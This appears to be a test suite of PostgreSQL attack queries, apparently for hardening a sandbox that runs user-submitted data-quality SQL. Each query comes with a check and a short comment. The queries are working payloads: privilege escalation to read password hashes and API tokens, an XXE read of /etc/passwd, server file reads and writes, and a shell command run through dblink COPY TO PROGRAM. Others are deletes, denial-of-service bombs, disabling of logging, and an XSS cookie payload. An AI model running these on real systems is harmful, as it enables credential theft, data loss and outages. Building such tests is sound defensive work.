-- # 001_set_role_owner
-- group: identity
-- check: SELECT EXISTS (SELECT FROM {stg} WHERE data_value ~ 'S3CRET' OR source_uid ~ 'S3CRET') OR {err} ~ 'S3CRET'
-- why: set_config('role') inside the statement, then a query in a string runs with the new role
SELECT 'A001' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((query_to_xml('select password from app.auth_user', true, false, ''))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date FROM (SELECT set_config('role', 'dqx_owner', false) AS r OFFSET 0) x WHERE x.r IS NOT NULL

-- # 003_reset_session_authorization
-- group: identity
-- check: SELECT EXISTS (SELECT FROM {stg} WHERE data_value ~ 'SCRAM')
-- why: set_config('session_authorization', …) on a connection whose login is a superuser
SELECT 'A003' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((query_to_xml('select rolpassword from pg_authid where rolpassword is not null', true, false, ''))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date FROM (SELECT set_config('session_authorization', 'postgres', false) AS r OFFSET 0) x WHERE x.r IS NOT NULL

-- # 005_pg_read_file
-- group: files
-- check: SELECT EXISTS (SELECT FROM {stg} WHERE data_value ~ '^[0-9]+')
-- why: reads a file of the server
SELECT 'A005' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((pg_read_file('PG_VERSION'))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 007_pg_ls_dir
-- group: files
-- check: SELECT EXISTS (SELECT FROM {stg} WHERE data_value = 'base')
-- why: lists the data directory
SELECT 'A007' AS rule_id, 'ATT' AS source_id, f AS source_uid, left((f)::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date FROM pg_ls_dir('.') AS f

-- # 009_pg_stat_file
-- group: files
-- check: SELECT EXISTS (SELECT FROM {stg})
-- why: reads size and time of a file
SELECT 'A009' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((pg_stat_file('postgresql.conf'))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 011_lo_export
-- group: files
-- check: SELECT EXISTS (SELECT FROM pg_ls_dir(current_setting('data_directory')) f WHERE f = 'dqx_attack.txt')
-- why: writes a file on the server from an existing large object (setup.sql makes 4711)
SELECT 'A011' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((lo_export(4711, current_setting('data_directory') || '/dqx_attack.txt'))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 013_xml_external_entity
-- group: files
-- check: SELECT EXISTS (SELECT FROM {stg} WHERE data_value ~ 'root:')
-- why: XML external entity: reads a file through the XML parser
SELECT 'A013' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((xmlparse(DOCUMENT '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 015_lo_from_bytea
-- group: writes
-- check: SELECT EXISTS (SELECT FROM pg_largeobject_metadata WHERE oid <> 4711)
-- why: stores data as a large object; PostgreSQL 15 allows that even in a READ ONLY transaction
SELECT 'A015' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((lo_from_bytea(0, repeat('x', 100000)::bytea))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 017_nextval
-- group: writes
-- check: SELECT last_value > 100 OR is_called FROM dq.script_id_seq
-- why: burns numbers of an application sequence (not undone by ROLLBACK)
SELECT 'A017' AS rule_id, 'ATT' AS source_id, g::text AS source_uid, left((nextval('dq.script_id_seq'))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date FROM generate_series(1, 50) g

-- # 019_nextval_default_cast
-- group: writes
-- check: SELECT last_value > 100 OR is_called FROM dq.script_id_seq
-- why: sequence named through a cast and an alias schema path
SELECT 'A019' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((pg_catalog."nextval"(('dq' || '.script_id_seq')::regclass))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 021_user_operator_delete
-- group: writes
-- check: SELECT NOT EXISTS (SELECT FROM dq.bad_detail WHERE rule_id = 'KEEP' AND data_value = 'must stay')
-- why: the same behind an operator: no function call in the text
SELECT 'A021' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((OPERATOR(dq_src.!!!) 1)::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 023_security_definer_exec
-- group: writes
-- check: SELECT NOT EXISTS (SELECT FROM dq.bad_detail WHERE rule_id = 'KEEP' AND data_value = 'must stay')
-- why: SECURITY DEFINER function that executes text, on the path of a SELECT
SELECT 'A023' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((app.admin_exec('delete from dq.bad_detail'))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 025_read_only_off
-- group: writes
-- check: SELECT NOT EXISTS (SELECT FROM dq.bad_detail WHERE rule_id = 'KEEP' AND data_value = 'must stay')
-- why: set_config('transaction_read_only','off'), then a write behind a function
SELECT 'A025' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((app.purge())::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date FROM (SELECT set_config('transaction_read_only', 'off', true) AS r OFFSET 0) x WHERE x.r IS NOT NULL

-- # 027_query_to_xml_delete
-- group: sqltext
-- check: SELECT NOT EXISTS (SELECT FROM dq.bad_detail WHERE rule_id = 'KEEP' AND data_value = 'must stay')
-- why: DELETE in the text of query_to_xml
SELECT 'A027' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((query_to_xml('delete from dq.bad_detail returning 1', true, false, ''))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 029_query_to_xml_sleep
-- group: resources
-- check: SELECT EXISTS (SELECT FROM pg_stat_activity WHERE application_name = 'dqx script' AND datname = current_database())
-- why: pg_sleep hidden in a string
SELECT 'A029' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((query_to_xml('select pg_' || 'sleep(600) /* A029 */', true, false, ''))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 031_table_to_xml
-- group: sqltext
-- check: SELECT EXISTS (SELECT FROM {stg} WHERE data_value ~ 'S3CRET' OR source_uid ~ 'S3CRET') OR {err} ~ 'S3CRET'
-- why: table_to_xml of a secret table
SELECT 'A031' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((table_to_xml('app.connection', true, false, ''))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 033_query_to_xml_xmlschema
-- group: sqltext
-- check: SELECT EXISTS (SELECT FROM {stg} WHERE data_value ~ 'S3CRET' OR source_uid ~ 'S3CRET') OR {err} ~ 'S3CRET'
-- why: a sister of query_to_xml that lists forget
SELECT 'A033' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((query_to_xml_and_xmlschema('table app.api_token', true, false, ''))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 035_ts_stat
-- group: sqltext
-- check: SELECT EXISTS (SELECT FROM {stg} WHERE data_value ~* 's3cret')
-- why: ts_stat runs the SQL text it is given
SELECT 'A035' AS rule_id, 'ATT' AS source_id, word AS source_uid, left((word)::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date FROM ts_stat('select to_tsvector(''simple'', password) from app.auth_user')

-- # 037_crosstab
-- needs: tablefunc
-- group: sqltext
-- check: SELECT EXISTS (SELECT FROM {stg} WHERE data_value ~ 'S3CRET' OR source_uid ~ 'S3CRET') OR {err} ~ 'S3CRET'
-- why: tablefunc crosstab/connectby run SQL text
SELECT 'A037' AS rule_id, 'ATT' AS source_id, u AS source_uid, left((v)::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date FROM public.crosstab('select username, 1, password from app.auth_user order by 1') AS t(u text, v text)

-- # 039_dblink_exec
-- needs: dblink
-- group: network
-- check: SELECT NOT EXISTS (SELECT FROM dq.bad_detail WHERE rule_id = 'KEEP' AND data_value = 'must stay')
-- why: dblink opens a second connection that is not read-only and deletes
SELECT 'A039' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((public.dblink_exec('host=' || split_part(current_setting('unix_socket_directories'), ',', 1) || ' port=' || current_setting('port') || ' user=postgres dbname=' || current_database(), 'delete from dq.bad_detail'))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 041_dblink_connect_outside
-- needs: dblink
-- group: network
-- check: SELECT {err} ~* 'refused|timeout|could not connect|connection to server' -- true: a connection was tried
-- why: dblink towards another host: data leaves, ports can be scanned
SELECT 'A041' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((public.dblink_connect('c', 'host=127.0.0.1 port=9 connect_timeout=2 user=x password=y dbname=z'))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 043_fdw_credentials
-- needs: postgres_fdw
-- group: leak
-- check: SELECT EXISTS (SELECT FROM {stg} WHERE data_value ~ 'S3CRET' OR source_uid ~ 'S3CRET') OR {err} ~ 'S3CRET'
-- why: user mapping options hold passwords
SELECT 'A043' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((array_to_string(umoptions, ','))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date FROM pg_user_mappings WHERE umoptions IS NOT NULL

-- # 045_cancel_all
-- group: control
-- check: SELECT NOT EXISTS (SELECT FROM pg_stat_activity WHERE application_name = 'victim' AND datname = current_database() AND query ~ 'pg_sleep' AND state = 'active')
-- why: cancels the queries of others
SELECT 'A045' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((count(pg_cancel_backend(pid)))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date FROM pg_stat_activity WHERE pid <> pg_backend_pid() AND application_name = 'victim'

-- # 047_reload_conf
-- group: control
-- check: SELECT EXISTS (SELECT FROM {stg} WHERE data_value = 'true')
-- why: reloads the configuration
SELECT 'A047' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((pg_reload_conf())::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 049_promote
-- group: control
-- check: SELECT EXISTS (SELECT FROM {stg} WHERE data_value = 'true')
-- why: promotes a standby
SELECT 'A049' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((pg_promote(false))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 051_create_restore_point
-- group: control
-- check: SELECT EXISTS (SELECT FROM {stg})
-- why: writes restore points into the WAL
SELECT 'A051' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((pg_create_restore_point('dqx_attack'))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 053_replication_slot
-- group: control
-- check: SELECT EXISTS (SELECT FROM pg_replication_slots WHERE slot_name = 'dqx_attack')
-- why: a physical slot holds back WAL until the disk is full
SELECT 'A053' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((pg_create_physical_replication_slot('dqx_attack', true))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 055_stat_reset
-- group: control
-- check: SELECT coalesce(bool_or(stats_reset > now() - interval '1 minute'), false) FROM pg_stat_database WHERE datname = current_database()
-- why: resets the statistics the planner, autovacuum and monitoring rely on
SELECT 'A055' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((pg_stat_reset())::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 057_pg_notify
-- group: control
-- check: SELECT {notified} -- a listener on channel dqx_jobs got a message
-- why: sends a notification to listeners of the application on COMMIT
SELECT 'A057' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((pg_notify('dqx_jobs', 'run:1'))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 059_export_snapshot
-- group: control
-- check: SELECT EXISTS (SELECT FROM {stg})
-- why: exports a snapshot: holds back vacuum while the transaction stays open
SELECT 'A059' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((pg_export_snapshot())::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 061_advisory_lock
-- group: session
-- check: SELECT EXISTS (SELECT FROM pg_locks WHERE locktype = 'advisory' AND objid = 424242)
-- why: takes a session-level advisory lock the application uses; it outlives the transaction
SELECT 'A061' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((pg_advisory_lock(424242))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 063_advisory_unlock_all
-- group: session
-- check: SELECT NOT EXISTS (SELECT FROM pg_locks WHERE locktype = 'advisory' AND objid = 777)
-- why: releases the locks the application took in the same session
SELECT 'A063' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((pg_advisory_unlock_all())::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 065_timeout_off
-- group: resources
-- check: SELECT EXISTS (SELECT FROM pg_stat_activity WHERE application_name = 'dqx script' AND datname = current_database())
-- check-session: SELECT current_setting('statement_timeout') = '0'
-- why: set_config('statement_timeout','0'), then sleep: within ONE statement the timer already runs and still fires
SELECT 'A065' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((pg_sleep(600))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date FROM (SELECT set_config('statement_timeout', '0', false) AS r OFFSET 0) x WHERE x.r IS NOT NULL

-- # 067_search_path_shadow
-- group: session
-- check: SELECT false 
-- check-session: SELECT current_setting('search_path') LIKE 'pg_temp%'
-- why: the search_path of later statements points elsewhere: unqualified names of the publish step hit other tables
SELECT 'A067' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((set_config('search_path', 'pg_temp, dq_src, public', false))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 069_datestyle
-- group: session
-- check: SELECT false 
-- check-session: SELECT current_setting('DateStyle') LIKE 'SQL%' OR current_setting('client_encoding') = 'LATIN1'
-- why: changes DateStyle, TimeZone and client_encoding for what follows
SELECT 'A069' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((set_config('DateStyle', 'SQL, DMY', false) || set_config('TimeZone', 'Pacific/Kiritimati', false) || set_config('client_encoding', 'LATIN1', false))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 071_work_mem_bomb
-- group: resources
-- check: SELECT EXISTS (SELECT FROM pg_stat_activity WHERE application_name = 'dqx script' AND datname = current_database())
-- why: raises work_mem, then sorts and hashes
SELECT 'A071' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((count(*))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date FROM (SELECT set_config('work_mem', '2GB', false), set_config('hash_mem_multiplier', '1000', false) OFFSET 0) x, (SELECT md5(g::text) m FROM generate_series(1, 30000000) g ORDER BY 1 OFFSET 29999999) y

-- # 073_row_security_log
-- group: session
-- check: SELECT false 
-- check-session: SELECT current_setting('log_min_error_statement') = 'panic'
-- why: turns logging off for the session (superuser)
SELECT 'A073' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((set_config('log_statement', 'none', false) || set_config('log_min_error_statement', 'panic', false))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 075_sleep_quoted
-- group: resources
-- check: SELECT EXISTS (SELECT FROM pg_stat_activity WHERE application_name = 'dqx script' AND datname = current_database())
-- why: the same with quoted, escaped and qualified names: a text denylist misses it
SELECT 'A075' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((pg_catalog.U&"pg\005fsleep"(600))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 077_sleep_view
-- group: resources
-- check: SELECT EXISTS (SELECT FROM pg_stat_activity WHERE application_name = 'dqx script' AND datname = current_database())
-- why: the sleep is in a view
SELECT 'A077' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((v)::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date FROM dq_src.sleepy_view

-- # 079_series_1e12
-- group: resources
-- check: SELECT EXISTS (SELECT FROM pg_stat_activity WHERE application_name = 'dqx script' AND datname = current_database())
-- why: generate_series to 10^12, counted
SELECT 'A079' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((count(*))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date FROM generate_series(1, 1000000000000)

-- # 081_wide_rows
-- group: resources
-- check: SELECT pg_total_relation_size('{stg}') > 1000000000
-- why: rows of 2,000 four-byte characters without end: fills disk or client memory
SELECT 'A081' AS rule_id, 'ATT' AS source_id, g::text AS source_uid, left((repeat('😀', 2000))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date FROM generate_series(1, 100000000) g

-- # 083_recursive_endless
-- group: resources
-- check: SELECT EXISTS (SELECT FROM pg_stat_activity WHERE application_name = 'dqx script' AND datname = current_database())
-- why: recursive CTE without an end
WITH RECURSIVE t(n) AS (SELECT 1::numeric UNION ALL SELECT n + 1 FROM t)
SELECT 'A083' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((max(n))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date FROM t

-- # 085_repeat_1gb
-- needs: memory limit
-- group: memory
-- check: SELECT {rss_mb} > 500
-- why: one value of almost 1 GB
SELECT 'A085' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((length(repeat('x', 1000000000)))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 087_json_agg_bomb
-- needs: memory limit
-- group: memory
-- check: SELECT {rss_mb} > 500
-- why: aggregates that grow in memory without limit
SELECT 'A087' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((length(jsonb_agg(repeat('abc', 1000) || g)::text))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date FROM generate_series(1, 2000000) g

-- # 089_strpos_no_interrupt
-- group: uninterruptible
-- check: SELECT EXISTS (SELECT FROM pg_stat_activity WHERE application_name = 'dqx script' AND datname = current_database())
-- why: worst case of the string search (needle b + 100,000 a): the loop never looks for a cancel request, so statement_timeout, pg_cancel_backend and pg_terminate_backend all wait for its end (some seconds with these sizes; 100 times longer strings: days)
SELECT 'A089' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((strpos(repeat('a', 200000), 'b' || repeat('a', 100000)))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 091_regex_backtrack
-- group: resources
-- check: SELECT EXISTS (SELECT FROM pg_stat_activity WHERE application_name = 'dqx script' AND datname = current_database())
-- why: regular expression with back references: years of work, but the engine looks for cancel requests
SELECT 'A091' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left(((SELECT string_agg(md5(g::text), '') FROM generate_series(1, 40) g) ~ '(.{3,})(.{3,})(.{3,}).*\3\2\1')::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 093_planner_bomb
-- needs: memory limit
-- group: resources
-- check: SELECT EXISTS (SELECT FROM pg_stat_activity WHERE application_name = 'dqx script' AND datname = current_database())
-- why: CTEs inlined 2^22 times: the PLANNER runs away, already for EXPLAIN or LIMIT 0
WITH c0 AS NOT MATERIALIZED (SELECT id FROM dq_src.employees), c1 AS NOT MATERIALIZED (SELECT a.id FROM c0 a JOIN c0 b USING (id)), c2 AS NOT MATERIALIZED (SELECT a.id FROM c1 a JOIN c1 b USING (id)), c3 AS NOT MATERIALIZED (SELECT a.id FROM c2 a JOIN c2 b USING (id)), c4 AS NOT MATERIALIZED (SELECT a.id FROM c3 a JOIN c3 b USING (id)), c5 AS NOT MATERIALIZED (SELECT a.id FROM c4 a JOIN c4 b USING (id)), c6 AS NOT MATERIALIZED (SELECT a.id FROM c5 a JOIN c5 b USING (id)), c7 AS NOT MATERIALIZED (SELECT a.id FROM c6 a JOIN c6 b USING (id)), c8 AS NOT MATERIALIZED (SELECT a.id FROM c7 a JOIN c7 b USING (id)), c9 AS NOT MATERIALIZED (SELECT a.id FROM c8 a JOIN c8 b USING (id)), c10 AS NOT MATERIALIZED (SELECT a.id FROM c9 a JOIN c9 b USING (id)), c11 AS NOT MATERIALIZED (SELECT a.id FROM c10 a JOIN c10 b USING (id)), c12 AS NOT MATERIALIZED (SELECT a.id FROM c11 a JOIN c11 b USING (id)), c13 AS NOT MATERIALIZED (SELECT a.id FROM c12 a JOIN c12 b USING (id)), c14 AS NOT MATERIALIZED (SELECT a.id FROM c13 a JOIN c13 b USING (id)), c15 AS NOT MATERIALIZED (SELECT a.id FROM c14 a JOIN c14 b USING (id)), c16 AS NOT MATERIALIZED (SELECT a.id FROM c15 a JOIN c15 b USING (id)), c17 AS NOT MATERIALIZED (SELECT a.id FROM c16 a JOIN c16 b USING (id)), c18 AS NOT MATERIALIZED (SELECT a.id FROM c17 a JOIN c17 b USING (id)), c19 AS NOT MATERIALIZED (SELECT a.id FROM c18 a JOIN c18 b USING (id)), c20 AS NOT MATERIALIZED (SELECT a.id FROM c19 a JOIN c19 b USING (id)), c21 AS NOT MATERIALIZED (SELECT a.id FROM c20 a JOIN c20 b USING (id)), c22 AS NOT MATERIALIZED (SELECT a.id FROM c21 a JOIN c21 b USING (id))
SELECT 'A093' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((count(*))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date FROM c22

-- # 095_parallel_workers
-- group: session
-- check: SELECT false 
-- check-session: SELECT current_setting('max_parallel_workers_per_gather') = '1024'
-- why: asks for all parallel workers for later statements
SELECT 'A095' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((set_config('max_parallel_workers_per_gather', '1024', false) || set_config('parallel_setup_cost', '0', false))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 097_huge_error
-- group: leak
-- check: SELECT length({err}) > 1000000
-- why: an error message of 200 MB for log and client
SELECT 'A097' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((repeat('x', 200000000)::integer)::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 099_sessions_tokens
-- group: leak
-- check: SELECT EXISTS (SELECT FROM {stg} WHERE data_value ~ 'S3CRET' OR source_uid ~ 'S3CRET') OR {err} ~ 'S3CRET'
-- why: sessions, API tokens, stored connections
SELECT 'A099' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((s.session_key || t.key || c.dsn)::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date FROM app.django_session s, app.api_token t, app.connection c

-- # 101_pg_authid
-- group: leak
-- check: SELECT EXISTS (SELECT FROM {stg} WHERE data_value ~ 'SCRAM|md5')
-- why: the same from pg_authid
SELECT 'A101' AS rule_id, 'ATT' AS source_id, rolname::text AS source_uid, left((rolpassword)::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date FROM pg_authid WHERE rolpassword IS NOT NULL

-- # 103_stg_of_others
-- group: leak
-- check: SELECT EXISTS (SELECT FROM {stg} WHERE data_value ~ 'S3CRET' OR source_uid ~ 'S3CRET') OR {err} ~ 'S3CRET'
-- why: the staging table of another script
SELECT 'A103' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((data_value)::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date FROM stg.dq_script_0

-- # 105_stat_activity
-- group: leak
-- check: SELECT EXISTS (SELECT FROM {stg} WHERE data_value ~ 'S3CRET-in-query')
-- why: queries of other sessions
SELECT 'A105' AS rule_id, 'ATT' AS source_id, pid::text AS source_uid, left((query)::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date FROM pg_stat_activity WHERE application_name = 'victim'

-- # 107_server_settings
-- group: leak
-- check: SELECT EXISTS (SELECT FROM {stg} WHERE data_value ~ '/')
-- why: paths and addresses of the server
SELECT 'A107' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((current_setting('data_directory') || current_setting('config_file') || coalesce(inet_server_addr()::text, '-'))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 109_function_source
-- group: leak
-- check: SELECT EXISTS (SELECT FROM {stg} WHERE data_value ~ 'EXECUTE q')
-- why: source of the application functions from the catalog
SELECT 'A109' AS rule_id, 'ATT' AS source_id, oid::text AS source_uid, left((prosrc)::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date FROM pg_proc WHERE proname IN ('admin_exec', 'purge', 'lookup_secret')

-- # 111_version
-- group: leak
-- check: SELECT EXISTS (SELECT FROM {stg} WHERE data_value ~ 'PostgreSQL')
-- why: version and address of the server
SELECT 'A111' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((version() || coalesce(inet_server_addr()::text, '') || coalesce(inet_client_addr()::text, ''))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 113_rule_id_cut
-- group: result
-- check: SELECT EXISTS (SELECT FROM {stg})
-- why: 21-character keys that become equal when cut to 20
SELECT repeat('k', 20) || g AS rule_id, 'ATT' AS source_id, 'A113' AS source_uid, 'v' AS data_value, DATE '2024-01-01' AS txn_date FROM generate_series(1, 2) g

-- # 115_null_keys
-- group: result
-- check: SELECT EXISTS (SELECT FROM {stg} WHERE rule_id IS NULL OR source_id IS NULL OR source_uid IS NULL)
-- why: NULL in each key column
SELECT NULLIF(g, 1)::text AS rule_id, NULLIF(g, 2)::text AS source_id, NULLIF(g, 3)::text AS source_uid, 'A115' AS data_value, DATE '2024-01-01' AS txn_date FROM generate_series(1, 3) g

-- # 117_date_infinity
-- group: result
-- check: SELECT EXISTS (SELECT FROM {stg} WHERE NOT isfinite(txn_date) OR txn_date NOT BETWEEN '0001-01-01' AND '9999-12-31')
-- why: dates Python cannot hold
SELECT 'A117' AS rule_id, 'ATT' AS source_id, o AS source_uid, 'v' AS data_value, d::date AS txn_date FROM unnest(ARRAY['infinity', '-infinity', '0044-03-15 BC', '12024-01-01']) WITH ORDINALITY AS t(d, o)

-- # 119_html_script
-- group: result
-- check: SELECT false -- look at the pages: the text must be shown, not run
-- why: HTML and script in the values
SELECT 'A119' AS rule_id, '<b>ATT</b>' AS source_id, '"><img src=x onerror=alert(1)>' AS source_uid, '<script>alert(document.cookie)</script>{{ 7*7 }}{% debug %}' AS data_value, DATE '2024-01-01' AS txn_date

-- # 121_chr_zero
-- group: result
-- check: SELECT EXISTS (SELECT FROM {stg})
-- why: a NUL character at run time
SELECT 'A121' AS rule_id, 'ATT' AS source_id, 'u' AS source_uid, chr(length('')) AS data_value, DATE '2024-01-01' AS txn_date

-- # 123_lone_surrogate_json
-- group: result
-- check: SELECT EXISTS (SELECT FROM {stg})
-- why: a lone surrogate through JSON
SELECT 'A123' AS rule_id, 'ATT' AS source_id, 'u' AS source_uid, '{"a": "\ud83d"}'::json ->> 'a' AS data_value, DATE '2024-01-01' AS txn_date

-- # 125_dblink_copy_program
-- needs: dblink
-- group: network
-- check: SELECT EXISTS (SELECT FROM pg_ls_dir(current_setting('data_directory')) f WHERE f = 'dqx_attack.txt')
-- why: COPY … TO PROGRAM through dblink: a shell command on the server
SELECT 'A125' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, left((public.dblink_exec('host=' || split_part(current_setting('unix_socket_directories'), ',', 1) || ' port=' || current_setting('port') || ' user=postgres dbname=' || current_database(), 'copy (select 1) to program ''touch ' || current_setting('data_directory') || '/dqx_attack.txt'''))::text, 2000) AS data_value, DATE '2024-01-01' AS txn_date 

-- # 127_backend_activity
-- group: leak
-- check: SELECT EXISTS (SELECT FROM {stg} WHERE data_value ~ 'S3CRET-in-query')
-- why: queries of other scripts, without the view that shows them
SELECT 'A127' AS rule_id, 'ATT' AS source_id, b AS source_uid, left(pg_stat_get_backend_activity(b), 2000) AS data_value, NULL::date AS txn_date FROM pg_stat_get_backend_idset() b

-- # 128_strpos_at_run_time
-- group: uninterruptible
-- check: SELECT EXISTS (SELECT FROM pg_stat_activity WHERE application_name = 'dqx script' AND datname = current_database())
-- why: as 089, but not before it runs: the check of a save does not see it, and the run must not wait for it
SELECT 'A128' AS rule_id, 'ATT' AS source_id, '1' AS source_uid, strpos(repeat('a', 200000 + i), 'b' || repeat('a', 100000)) AS data_value, NULL::date AS txn_date FROM generate_series(1, 1) i
